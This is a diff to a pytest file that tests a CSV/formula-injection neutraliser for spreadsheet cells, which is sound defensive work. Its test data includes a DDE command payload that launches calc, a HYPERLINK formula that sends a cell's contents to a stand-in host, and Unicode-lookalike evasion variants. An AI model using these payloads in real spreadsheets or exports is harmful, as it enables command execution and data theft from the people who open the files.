@@ -15,13 +15,20 @@ BENIGN = {"label": "benign", "p_malignant": 0.02}
 
 
 @pytest.mark.parametrize(
-    "cell", ["=1+1", "+cmd|' /C calc'!A0", "-a", "@SUM(A1)", "\tx", "\rx", "+1+1", "-1-1", "+", "-"]
+    "cell",
+    [
+        '=HYPERLINK("http://a.example?"&A1,"x")',
+        *("=1+1", "+cmd|' /C calc'!A0", "-a", "@SUM(A1)", "\tx", "\rx", "\n=1", "\0=1", "+1+1", "-1-1", "+", "-"),
+        *("-1.5.5", "-1,5", "-0x1", "+1e", "-inf", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"),
+    ],
 )
 def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
     assert neutral(cell) == f"'{cell}"
 
 
-@pytest.mark.parametrize("cell", ["-1", "+1.5", "-.5", "-1e-5", "+1E10", "1", "", "a=b", "wdbc-001", "'=1"])
+@pytest.mark.parametrize(
+    "cell", ["-1", "-1.5", "-0", "+1.5", "-.5", "-1e-5", "+1E10", "1", "", "a=b", "wdbc-001", "'=1"]
+)
 def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
     assert neutral(cell) == cell
 
